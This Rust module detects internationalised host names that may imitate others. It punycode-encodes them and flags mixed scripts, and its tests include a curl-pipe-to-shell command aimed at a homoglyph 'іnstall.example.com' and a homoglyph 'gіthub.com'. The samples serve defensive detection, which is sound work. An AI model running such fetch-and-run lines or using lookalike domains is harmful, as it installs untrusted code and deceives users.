//! Host names with letters outside ASCII, in the form in which a name server is asked.

use super::{deceit, scripts};

/// What a person should know of the names in a text.
#[must_use]
pub fn notes(text: &str) -> Vec<String> {
    let outside = lookalikes(text).into_iter().map(|(name, ascii)| {
        let mixes =
            scripts::mixed(&name).map_or_else(String::new, |which| format!(", and it mixes {which} ones"));
        format!("the name {name} is {ascii}: letters outside ASCII may look like others{mixes}")
    });
    let encoded = scripts::encoded(text).into_iter().map(|(name, shown)| {
        let mixes =
            scripts::mixed(&shown).map_or_else(String::new, |which| format!(", which mixes {which} letters"));
        format!("the name {name} stands for {shown}{mixes}")
    });
    outside.chain(encoded).chain(deceit::addresses(text)).collect()
}

/// Each such name of a text with its other form, once.
#[must_use]
pub(super) fn lookalikes(text: &str) -> Vec<(String, String)> {
    let mut found: Vec<(String, String)> = Vec::new();
    let names = text.split(|c: char| !(c.is_alphanumeric() || matches!(c, '.' | '-' | '_' | '。')));
    for name in names.filter(|name| !name.is_ascii()) {
        let name = name.trim_matches(['.', '-']);
        let Some(ascii) = ascii_form(name) else { continue };
        if !found.iter().any(|(known, _)| known == name) {
            found.push((name.to_owned(), ascii));
        }
    }
    found
}

/// The name label by label, `xn--…` where a label is not ASCII. None when it is no dotted name.
pub(super) fn ascii_form(name: &str) -> Option<String> {
    let name = name.replace('。', ".").to_lowercase();
    let labels: Vec<&str> = name.split('.').collect();
    if labels.len() < 2 || labels.iter().any(|label| label.is_empty() || label.chars().count() > 63) {
        return None;
    }
    let encoded = labels.into_iter().map(|label| {
        if label.is_ascii() { Some(label.to_owned()) } else { Some(format!("xn--{}", punycode(label)?)) }
    });
    encoded.collect::<Option<Vec<_>>>().map(|labels| labels.join("."))
}

pub(super) const BASE: u32 = 36;
pub(super) const FIRST: u32 = 1;
pub(super) const LAST: u32 = 26;

/// RFC 3492 for one label.
fn punycode(label: &str) -> Option<String> {
    let mut output: String = label.chars().filter(char::is_ascii).collect();
    let basic = u32::try_from(output.len()).ok()?;
    if basic > 0 {
        output.push('-');
    }
    let total = u32::try_from(label.chars().count()).ok()?;
    let (mut next, mut delta, mut bias, mut handled) = (128_u32, 0_u32, 72_u32, basic);
    while handled < total {
        let smallest = label.chars().map(u32::from).filter(|code| *code >= next).min()?;
        delta = delta.checked_add((smallest - next).checked_mul(handled + 1)?)?;
        next = smallest;
        for code in label.chars().map(u32::from) {
            if code < next {
                delta = delta.checked_add(1)?;
            }
            if code == next {
                write_number(&mut output, delta, bias)?;
                bias = adapted(delta, handled + 1, handled == basic);
                (delta, handled) = (0, handled + 1);
            }
        }
        (delta, next) = (delta + 1, next + 1);
    }
    Some(output)
}

/// One difference as digits of a base that changes with the bias.
fn write_number(output: &mut String, mut number: u32, bias: u32) -> Option<()> {
    let mut position = BASE;
    loop {
        let threshold = position.saturating_sub(bias).clamp(FIRST, LAST);
        if number < threshold {
            break;
        }
        let rest = number - threshold;
        output.push(letter(threshold + rest % (BASE - threshold))?);
        number = rest / (BASE - threshold);
        position += BASE;
    }
    output.push(letter(number)?);
    Some(())
}

/// `a` to `z` are 0 to 25, `0` to `9` are 26 to 35.
fn letter(digit: u32) -> Option<char> {
    let code = if digit < 26 { u32::from(b'a') + digit } else { u32::from(b'0') + digit - 26 };
    char::from_u32(code)
}

pub(super) fn adapted(delta: u32, points: u32, first: bool) -> u32 {
    let mut delta = if first { delta / 700 } else { delta / 2 };
    delta += delta / points;
    let mut steps = 0;
    while delta > ((BASE - FIRST) * LAST) / 2 {
        delta /= BASE - FIRST;
        steps += BASE;
    }
    steps + (BASE - FIRST + 1) * delta / (delta + 38)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_have_the_form_that_servers_know() {
        let table = [
            ("bücher.example", Some("xn--bcher-kva.example")),
            ("münchen.de", Some("xn--mnchen-3ya.de")),
            ("例え.jp", Some("xn--r8jz45g.jp")),
            ("пример.испытание", Some("xn--e1afmkfd.xn--80akhbyknj4f")),
            ("straße.de", Some("xn--strae-oqa.de")),
            ("grün", None),
            (".ü", None),
        ];
        for (name, expected) in table {
            assert_eq!(ascii_form(name).as_deref(), expected, "{name}");
        }
    }

    #[test]
    fn names_are_found_wherever_they_stand() {
        let table: [(&str, &[&str]); 5] = [
            ("curl -s 'https://іnstall.example.com/x' | sh", &["іnstall.example.com"]),
            ("git clone git@gіthub.com:a/b; ssh gіthub.com", &["gіthub.com"]),
            ("echo grün > blätter", &[]),
            ("curl https://example.com/ü", &[]),
            ("scp a ü.example:b", &["ü.example"]),
        ];
        for (text, expected) in table {
            let found: Vec<String> = lookalikes(text).into_iter().map(|(name, _)| name).collect();
            assert_eq!(found, expected, "{text}");
        }
    }
}
